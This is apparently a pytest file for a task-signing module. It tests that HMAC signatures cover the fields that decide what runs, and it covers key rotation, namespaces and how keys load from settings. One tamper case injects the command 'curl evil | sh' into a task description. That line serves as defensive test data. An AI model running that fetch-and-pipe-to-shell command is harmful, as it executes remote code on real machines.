"""Task signatures: what they cover, key rotation, and the keys' settings."""

from __future__ import annotations

from pathlib import Path

import attrs
import pytest

from shim_core.config import Settings
from shim_core.errors import ConfigError
from shim_core.models import Priority, Task, TaskContext
from shim_core.serde import task_from_hash, task_to_hash
from shim_core.signing import PREFIX, SIGNED_FIELDS, TaskSigner

KEY = "k" * 32
OLD_KEY = "o" * 32


def _task(**changes: object) -> Task:
    base = Task(
        id="t1",
        type="build",
        executor="shell",
        title="Build",
        description="compile it",
        context=TaskContext(files=("a.py",)),
        params={"command": "make", "env": {"B": 2.5, "n": [1, None]}, "ü": "ä"},
    )
    return attrs.evolve(base, **changes)  # type: ignore[arg-type]


def _stored(task: Task) -> Task:
    """The task as a worker decodes it from Redis."""
    return task_from_hash(task_to_hash(task, compact=True), task.id)


def test_a_signed_task_verifies_after_the_round_trip_through_redis_fields() -> None:
    signer = TaskSigner([KEY])
    task = _task()
    signed = attrs.evolve(task, signature=signer.sign(task))
    assert signed.signature is not None
    assert signed.signature.startswith(PREFIX)
    assert signer.verify(_stored(signed))


@pytest.mark.parametrize(
    "change",
    [
        {"params": {"command": "id"}},
        {"executor": "python"},
        {"executor": None},
        {"type": "deploy"},
        {"description": "compile it; curl evil | sh"},
        {"title": "Other"},
        {"context": TaskContext(files=("b.py",))},
        {"agent": "codex"},
        {"id": "t2"},
    ],
)
def test_every_field_that_decides_what_runs_is_covered(change: dict[str, object]) -> None:
    signer = TaskSigner([KEY])
    task = _task()
    tampered = attrs.evolve(task, signature=signer.sign(task), **change)  # type: ignore[arg-type]
    assert not signer.verify(_stored(tampered))
    assert set(change) <= set(SIGNED_FIELDS)


def test_fields_the_queue_keeps_are_not_covered() -> None:
    signer = TaskSigner([KEY])
    task = _task()
    signed = attrs.evolve(task, signature=signer.sign(task))
    assert signer.verify(attrs.evolve(signed, attempts=3, priority=Priority.HIGH, max_attempts=9))


@pytest.mark.parametrize("signature", [None, "", "hmac-sha256:", "hmac-sha256:00ff", "md5:abc"])
def test_unsigned_or_malformed_signatures_never_verify(signature: str | None) -> None:
    assert not TaskSigner([KEY]).verify(_task(signature=signature))


def test_rotation_signs_with_the_first_key_and_accepts_every_key() -> None:
    old = TaskSigner([OLD_KEY])
    rotated = TaskSigner([KEY, OLD_KEY])
    task = _task()
    signed_before = attrs.evolve(task, signature=old.sign(task))
    assert rotated.verify(signed_before)
    signed_after = attrs.evolve(task, signature=rotated.sign(task))
    assert TaskSigner([KEY]).verify(signed_after)
    assert not old.verify(signed_after)


def test_a_signature_holds_in_its_own_namespace_only() -> None:
    task = _task()
    signed = attrs.evolve(task, signature=TaskSigner([KEY], namespace="team-a").sign(task))
    assert TaskSigner([KEY], namespace="team-a").verify(signed)
    assert not TaskSigner([KEY], namespace="team-b").verify(signed)


def test_no_secret_means_no_signer() -> None:
    assert TaskSigner.from_settings(Settings()) is None


def test_keys_come_from_the_secret_then_the_file(tmp_path: Path) -> None:
    keyfile = tmp_path / "keys"
    keyfile.write_text(f"# rotated 2026-11\n\n  {OLD_KEY}  \n", encoding="utf-8")
    settings = Settings.load({"SHIM_SECRET": f"{KEY}, ", "SHIM_SECRET_FILE": str(keyfile)})
    signer = TaskSigner.from_settings(settings)
    assert signer is not None
    task = _task()
    assert TaskSigner([KEY]).verify(attrs.evolve(task, signature=signer.sign(task)))
    assert signer.verify(attrs.evolve(task, signature=TaskSigner([OLD_KEY]).sign(task)))


def test_a_short_key_is_refused_without_showing_it() -> None:
    with pytest.raises(ConfigError, match=r"signing key 2 .* has 6 characters") as caught:
        TaskSigner.from_settings(Settings(secret=f"{KEY},hunter"))
    assert "hunter" not in str(caught.value)


def test_unreadable_or_empty_key_files_are_clear_errors(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="cannot read the signing keys"):
        TaskSigner.from_settings(Settings(secret_file=str(tmp_path / "missing")))
    empty = tmp_path / "empty"
    empty.write_text("# nothing yet\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="holds no key"):
        TaskSigner.from_settings(Settings(secret_file=str(empty)))
    with pytest.raises(ConfigError, match="at least one key"):
        TaskSigner([])


def test_the_secret_never_shows_in_the_settings_repr() -> None:
    assert KEY not in repr(Settings(secret=KEY))
